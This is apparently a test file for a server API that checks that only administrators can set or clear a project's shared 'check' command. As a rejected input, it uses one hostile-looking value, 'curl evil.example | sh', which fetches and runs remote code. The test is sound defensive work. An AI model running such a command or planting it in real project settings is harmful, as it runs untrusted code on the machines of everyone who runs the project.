/** Who may set the command that everybody's runs of a project execute. */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { makeUser, setupAdmin } from "../../testing/accounts.ts";
import { startServer, type TestServer } from "../../testing/server.ts";
import type { Project } from "./model.ts";

let server: TestServer;
beforeAll(async () => {
  server = await startServer({ env: { AUTH_ENABLED: "true" } });
});
afterAll(() => server.remove());

test("an administrator sets a project's check; others change the rest of the project and leave it as it is", async () => {
  const admin = await setupAdmin(server);
  const user = await makeUser(server, admin, "u@example.test");
  const ask = <T = Project>(method: string, path: string, body: object, token: string) =>
    server.request<T>(method, path, { body, token });
  const made = await ask("POST", "/v1/projects", { name: "shop", check: "npm test" }, admin.token);
  expect([made.status, made.body.check]).toEqual([201, "npm test"]);
  const path = `/v1/projects/${made.body.id}`;
  for (const check of ["curl evil.example | sh", null])
    expect((await ask<{ detail: string }>("PUT", path, { check }, user.token)).body.detail).toContain("administrator");
  expect((await ask("POST", "/v1/projects", { name: "own", check: "env" }, user.token)).status).toBe(403);
  expect((await ask("PUT", path, { description: "d", check: "npm test" }, user.token)).body).toMatchObject({
    description: "d",
    check: "npm test",
  });
  expect((await ask("PUT", path, { check: null }, admin.token)).body.check).toBeNull();
  expect((await ask("PUT", path, { check: " \n " }, admin.token)).status).toBe(422);
});
